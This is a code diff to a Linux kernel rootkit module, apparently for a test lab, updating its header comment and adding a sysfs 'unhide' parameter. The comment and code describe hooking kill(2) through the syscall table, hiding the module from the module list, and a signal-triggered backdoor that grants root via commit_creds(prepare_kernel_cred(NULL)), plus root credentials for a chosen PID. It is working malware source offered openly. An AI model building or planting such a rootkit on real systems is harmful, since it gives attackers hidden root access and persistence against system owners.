@@ -7,9 +7,12 @@
  *  - hides itself from the module list (list_del of THIS_MODULE->list; its sysfs kobject stays),
  *  - gives the process `root_pid` (a module parameter, 0: none) root credentials (a fresh copy of
  *    init_cred assigned to its cred and real_cred).
- * Through the hooked kill(2): signal 63 toggles the module's visibility (so that rmmod, which finds
- * modules by the list, can unload it); signal 64 gives the calling process root credentials.
- * Unloading restores the syscall table entry. Never load it outside a throw-away test guest.
+ * Through the hooked kill(2): signal 63 toggles the module's visibility; signal 64 gives the calling
+ * process root credentials. Kernels with the 2024 branch-history mitigation (6.1.85 and later: Debian's
+ * 6.1.0-2x and later) dispatch system calls through a switch, not the table: there the hook is only
+ * seen, never called. So the module can also be unhidden by writing 1 to
+ * /sys/module/vims_rk/parameters/unhide (its sysfs kobject stays), after which rmmod, which finds
+ * modules by the list, unloads it. Unloading restores the syscall table entry. Never load it outside a throw-away test guest.
  */
 #include <linux/module.h>
 #include <linux/kernel.h>
@@ -105,6 +108,16 @@ static long hooked_kill(const struct pt_regs *regs)
 		return commit_creds(prepare_kernel_cred(NULL));
 	return real_kill(regs);
 }
+
+static int set_unhide(const char *val, const struct kernel_param *kp)
+{
+	if (hidden)
+		unhide();
+	return 0;
+}
+
+static const struct kernel_param_ops unhide_ops = { .set = set_unhide };
+module_param_cb(unhide, &unhide_ops, NULL, 0200);
 
 static int __init rk_init(void)
 {
